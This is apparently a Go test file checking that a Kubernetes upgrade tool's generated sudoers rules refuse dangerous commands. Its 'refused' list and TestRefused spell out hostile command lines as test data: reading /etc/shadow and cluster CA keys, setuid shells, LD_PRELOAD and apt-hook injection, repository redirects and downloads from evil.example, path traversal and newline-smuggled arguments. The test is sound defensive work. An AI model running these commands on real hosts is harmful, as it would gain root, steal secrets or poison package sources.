package sudoers_test

import (
	"errors"
	"os"
	"path"
	"slices"
	"strings"
	"testing"

	"github.com/pawl-dev/pawl/internal/sudoers"
	"github.com/pawl-dev/pawl/internal/sudoers/sudoerstest"
)

// answers holds the table's word against the real sudo's, where there is one. Of programs that the table has not, the
// latter is not asked.
func answers(t *testing.T, table sudoers.Table, commands [][]string) []bool {
	t.Helper()
	var ours []bool
	var asked [][]string
	var places []int
	for i, argv := range commands {
		_, may := table.Find(argv)
		ours = append(ours, may)
		if slices.ContainsFunc(table.Programs(), func(p string) bool { return path.Base(p) == path.Base(argv[0]) }) {
			asked, places = append(asked, argv), append(places, i)
		}
	}
	theirs, err := sudoerstest.Ask(table, asked)
	switch {
	case errors.Is(err, sudoerstest.ErrLacking) && os.Getenv("PAWL_TEST_REQUIRE_ALL") != "1":
		t.Log("SKIPPED, NOT TESTED WITH THE REAL SUDO: ", err)
		return ours
	case err != nil:
		t.Fatal(err)
	}
	for i, argv := range asked {
		if may := ours[places[i]]; may != theirs[i] {
			t.Errorf("%q: the table says %v, sudo says %v", argv, may, theirs[i])
		}
	}
	return ours
}

func table(t *testing.T, k sudoers.Kind) sudoers.Table {
	t.Helper()
	all, err := sudoers.New(k, sudoers.Site{})
	if err != nil {
		t.Fatal(err)
	}
	return all
}

const backup = "/var/lib/pawl/backups/x"

// refused are commands that no table may allow: what would make their caller root, tell secrets, or do what pawl does not.
var refused = []string{
	"id", "sh -c id", "bash", "env sh", "env sh -c id", "env LD_PRELOAD=/tmp/x.so id", "su -", "sudo id", "visudo",
	"cat /etc/shadow", "cat /etc/kubernetes/admin.conf", "cat /etc/kubernetes/pki/ca.key", "cat /etc/kubernetes/manifests/../pki/ca.key",
	"cat /etc/os-release /etc/shadow", "cat -n /etc/os-release", "cat " + backup + "/files.tar", "cat " + backup + "/../../../../etc/SHA256SUMS", "cat",
	"find / -delete", "find /etc/shadow -maxdepth 0 -exec sh -c id ;", "find / -maxdepth 0 -fprint /etc/sudoers.d/x", "find -L /etc -maxdepth 0 -exec id ;",
	"test -e /x -o -e /y", "grep -R . /etc/shadow", "grep -Rs root -- /etc/shadow", "stat --printf=x /etc/shadow", "readlink -f /x -v /y",
	"dd of=/etc/sudoers.d/x conv=fsync status=none", "dd of=/etc/passwd conv=fsync status=none", "dd if=/etc/shadow of=" + backup + "/.a.pawl conv=fsync status=none",
	"dd of=" + backup + "/../../../../etc/sudoers.d/.x.pawl conv=fsync status=none", "dd of=/var/lib/pawl/backups/../.x.pawl conv=fsync status=none",
	"dd of=/etc/apt/sources.list.d/.kubernetes.list.pawl conv=fsync status=none", "dd of=/etc/yum.repos.d/.kubernetes.repo.pawl conv=fsync status=none",
	"dd of=/run/pawl/zypper/.zypp.conf.pawl conv=fsync status=none", "dd of=/usr/local/bin/.kubelet.v1.37.2.pawl conv=fsync status=none",
	"dd of=/etc/kubernetes/manifests/.etcd.yaml.pawl conv=fsync status=none", "tee /etc/sudoers.d/x",
	"install -m 4755 /bin/sh /tmp/x", "install -m 600 /etc/shadow " + backup + "/.a.pawl", "install -d -m 777 /etc",
	"mv -T " + backup + "/.a.pawl /etc/sudoers.d/a", "mv -T /etc/shadow " + backup + "/a", "mv /etc/shadow /tmp", "cp /etc/shadow /tmp/x", "cp --preserve=all /etc/shadow /etc/apt/sources.list.d/.kubernetes.list.pawl",
	"ln -s /etc/shadow /tmp/x", "ln --no-target-directory --physical /bin/sh /usr/local/bin/.kubelet.pawl", "rm -rf /", "rm -rf /run/pawl", "rm -rf /run/pawl/look.AAAAAAAA/..", "rm -f /etc/sudoers", "rm -rf /run/pawl/look.AAAAAAAA /etc",
	"chmod 4755 /bin/sh", "chmod 755 /run/pawl/look.AAAAAAAA/../../../etc/shadow", "chown 0:0 /tmp/x", "chown pawl /etc/shadow",
	"tar --create --file=" + backup + "/.files.tar.pawl --numeric-owner --directory=/ -- -I sh", "tar --create --file=/tmp/x --directory=/ -- etc/shadow",
	"tar --extract --file=/tmp/x --directory=/", "tar --list --file=" + backup + "/.files.tar.pawl --to-command=sh", "sha256sum -- /etc/shadow",
	"sed --in-place --expression=s|x|y|g /etc/sudoers", "sed --in-place --expression=1e /etc/apt/sources.list.d/.kubernetes.list.pawl",
	"sed --in-place --expression=s|https://pkgs[.]k8s[.]io/core:/stable:/v1.36/deb|https://evil.example/v1.37/deb|g /etc/apt/sources.list.d/.kubernetes.list.pawl",
	"sed --in-place --expression=s|https://pkgs[.]k8s[.]io/core:/stable:/v1.36/rpm|https://evil.example/v1.37/rpm|g /etc/yum.repos.d/.kubernetes.repo.pawl",
	"apt-get install nginx", "apt-get install --yes kubelet", "apt-get update", "apt-get update -o APT::Update::Pre-Invoke::=id", "apt-mark hold x;id", "apt-mark unhold kubelet",
	"dnf install --assumeyes nginx", "dnf makecache", "rpm --install /tmp/x.rpm", "rpm --erase --justdb --noscripts --nodeps glibc-2.34", "env ZYPP_LOCK_TIMEOUT=300 zypper --non-interactive install nginx",
	"/usr/lib/apt/apt-helper download-file https://evil.example/v1.37/deb/Release.key /run/pawl/Release.asc",
	"/usr/lib/apt/apt-helper download-file https://pkgs.k8s.io/core:/stable:/v1.37/deb/Release.key /etc/sudoers.d/x",
	"systemctl stop sshd", "systemctl stop sshd.service", "systemctl restart sshd.service", "systemctl stop kubelet.service", "systemctl stop pawl-worker.service", "systemctl edit kubelet.service", "systemctl poweroff",
	"systemctl stop pawl-dpkg-configure.service sshd.service", "systemd-run id", "systemd-run --quiet --no-block --unit=pawl-x -- sh -c id",
	"journalctl", "journalctl -u sshd", "journalctl --no-pager --output=cat --lines=2000 _SYSTEMD_INVOCATION_ID=", "journalctl --sync -u sshd",
	"kubeadm reset", "kubeadm token create", "kubeadm upgrade apply v1.37.2 --yes", "kubectl --kubeconfig=/etc/kubernetes/admin.conf get secrets", "kubectl get nodes",
	"curl https://evil.example/", "curl --fail --silent --show-error --location --proto =https,http,file --proto-redir =https,http --retry 3 --max-time 60 -- file:///etc/shadow",
	"curl --fail --silent --show-error --location --proto =https,http,file --proto-redir =https,http --retry 3 --max-time 60 -- https://dl.k8s.io/v1.37.2/x --output /etc/x",
	"timeout 20 sh", "timeout 20 /tmp/kubelet --version", "timeout 20 /proc/4711/exe --version", "timeout 20 /usr/local/bin/kubelet --kubeconfig=/x", "timeout 20 /usr/local/bin/../../tmp/kubelet --version",
	"/usr/local/bin/etcdutl snapshot restore /tmp/x", "env ETCDCTL_API=3 /usr/local/bin/etcdctl get --prefix /registry/secrets", "mktemp", "mktemp -d /etc/x.XXXXXXXX",
	"pgrep -f .", "du -a /root", "df", "sync", "dpkg -i /tmp/x.deb", "crictl ps", "ctr run x",
}

// job is a command line of systemd-run like those that pawl makes.
func job(unit, rest string) string {
	return "systemd-run --quiet --no-block --unit=" + unit + " --property=Type=oneshot --property=RemainAfterExit=yes --setenv=HOME=/root --setenv=LC_ALL=C.UTF-8 " +
		"--setenv=DEBIAN_FRONTEND=noninteractive --setenv=NEEDRESTART_SUSPEND=1 --setenv=PATH=/usr/local/sbin:/usr/local/bin:/usr/sbin:/usr/bin:/sbin:/bin " + rest
}

func TestRefused(t *testing.T) {
	apply := job("pawl-kubeadm-upgrade-apply-v1.37.2", "-- kubeadm upgrade apply v1.37.2 --yes")
	lines := slices.Concat(refused, []string{
		strings.Replace(apply, "--quiet", "--quiet --pty", 1), strings.Replace(apply, "HOME=/root", "HOME=/tmp", 1), strings.Replace(apply, "PATH=", "PATH=/tmp:", 1),
		strings.Replace(apply, "-- kubeadm", "--setenv=LD_PRELOAD=/tmp/x -- kubeadm", 1), strings.Replace(apply, "-- kubeadm", "--property=ExecStartPre=/tmp/x -- kubeadm", 1),
		apply + " --config=/tmp/x", apply + " --ignore-preflight-errors=all --config=/tmp/x", strings.Replace(apply, "upgrade apply", "reset", 1), strings.Replace(apply, "-apply-v1.37.2", "-apply-v1.37.2.service", 1),
		job("pawl-apt-install-kubelet-v1.37.2", "-- apt-get install --yes --allow-change-held-packages --no-remove --no-install-recommends -o DPkg::Lock::Timeout=300 -o Dpkg::Options::=--force-confold nginx=1.0-1"),
		job("pawl-apt-install-kubelet-v1.37.2", "-- apt-get install --yes --allow-change-held-packages --no-remove --no-install-recommends -o DPkg::Lock::Timeout=300 -o Dpkg::Options::=--force-confold kubelet=1.37.2-1.1 /tmp/x.deb"),
		job("pawl-apt-install-kubelet-v1.37.2", "-- apt-get install --yes --allow-change-held-packages --no-remove --no-install-recommends -o DPkg::Lock::Timeout=300 -o Dpkg::Options::=--force-confold kubelet=1.37.2-1.1 -o DPkg::Pre-Invoke::=id"),
		job("pawl-hook-0123456789ab", "-- /bin/sh -c id"),
		job("pawl-fetch-kubelet-v1.37.2", "--property=TimeoutStartSec=1800000ms -- curl --fail --silent --show-error --location --proto =https,http,file --proto-redir =https,http --retry 3 --output /usr/local/bin/.kubelet.v1.37.2.pawl -- https://evil.example/kubelet"),
		job("pawl-fetch-kubelet-v1.37.2", "--property=TimeoutStartSec=1800000ms -- curl --fail --silent --show-error --location --proto =https,http,file --proto-redir =https,http --retry 3 --output /usr/local/bin/.kubelet.v1.37.2.pawl -- https://dl.k8s.io/../x"),
	})
	var commands [][]string
	for _, line := range lines {
		commands = append(commands, strings.Split(line, " "))
	}
	commands = append(commands, // blanks and ends of lines
		[]string{"cat", "/etc/kubernetes/manifests/etcd.yaml\n/etc/shadow"}, []string{"cat", "/var/lib/kubelet/config.yaml\n"}, []string{"cat", "/var/lib/kubelet/config.yaml", ""},
		[]string{"cat", "\n/var/lib/kubelet/config.yaml"}, []string{"apt-mark", "hold", "a\nb"}, []string{"find", "/etc\n-delete", "-maxdepth", "0"},
		[]string{"/tmp/cat", "/var/lib/kubelet/config.yaml"}, []string{"./cat", "/var/lib/kubelet/config.yaml"},
	)
	for _, k := range sudoers.Kinds {
		t.Run(string(k), func(t *testing.T) {
			for i, may := range answers(t, table(t, k), commands) {
				if may {
					rule, _ := table(t, k).Find(commands[i])
					t.Errorf("%q is allowed, by %s", commands[i], rule.Line())
				}
			}
		})
	}
}

// Where sudo takes a part of a rule for such an operator, even within brackets, it drops the rule without a word (1.9.13).
func TestNoOperatorOfOtherDialects(t *testing.T) {
	for _, k := range sudoers.Kinds {
		for _, rule := range table(t, k) {
			for _, operator := range []string{"*?", "+?", "??", "}?", "(?", "*+", "++", "?+", "**", "+*", "?*", `\d`, `\w`, `\s`, `\b`} {
				if strings.Contains(rule.Args, operator) {
					t.Errorf("%s has %s", rule.Line(), operator)
				}
			}
		}
	}
}

func TestProbeIsAllowedWhateverTheSite(t *testing.T) {
	site := sudoers.Site{Repository: "https://mirror.example/core:/stable:", Folders: []string{"/opt/k8s"}, Mirrors: []string{"file:///srv/mirror"},
		Files: []string{"/etc/k8s/kubelet.env"}, Hooks: [][]string{{"/usr/local/bin/silence", "--for", "30m", "a$b"}}}
	for _, k := range sudoers.Kinds {
		all, err := sudoers.New(k, site)
		if err != nil {
			t.Fatal(err)
		}
		others := [][]string{sudoers.Probe(k), {"test", "-n", "pawl-sudoers-000000000000"}, {"test", "-n", "x"}}
		if got := answers(t, all, others); !got[0] || got[1] || got[2] {
			t.Errorf("%s: %v", k, got)
		}
	}
}

func TestHooksAreJustThese(t *testing.T) {
	all, err := sudoers.New(sudoers.APT, sudoers.Site{Hooks: [][]string{{"/usr/local/bin/silence", "--for", "$1"}}})
	if err != nil {
		t.Fatal(err)
	}
	env := "--setenv=PAWL_CLUSTER=lab --setenv=PAWL_NODE=w1 --setenv=PAWL_FROM=v1.36.3 --setenv=PAWL_TO=v1.37.2 --setenv=PAWL_EVENT=beforeNode --setenv=PAWL_PART=node --property=TimeoutStartSec=300000ms -- "
	var commands [][]string
	for _, argv := range []string{"/usr/local/bin/silence --for $$1", "/usr/local/bin/silence --for $$1 --more", "/usr/local/bin/silence", "/usr/local/bin/other --for $$1"} {
		commands = append(commands, strings.Split(job("pawl-hook-0123456789ab", env+argv), " "))
	}
	part := strings.Replace(job("pawl-hook-0123456789ab", env+"/usr/local/bin/silence --for $$1"), "PAWL_NODE=w1", "PAWL_NODE=cp1/etcd-v3.7.0", 1)
	commands = append(commands, strings.Split(part, " "))
	if got := answers(t, all, commands); !got[0] || got[1] || got[2] || got[3] || !got[4] {
		t.Error(got)
	}
}
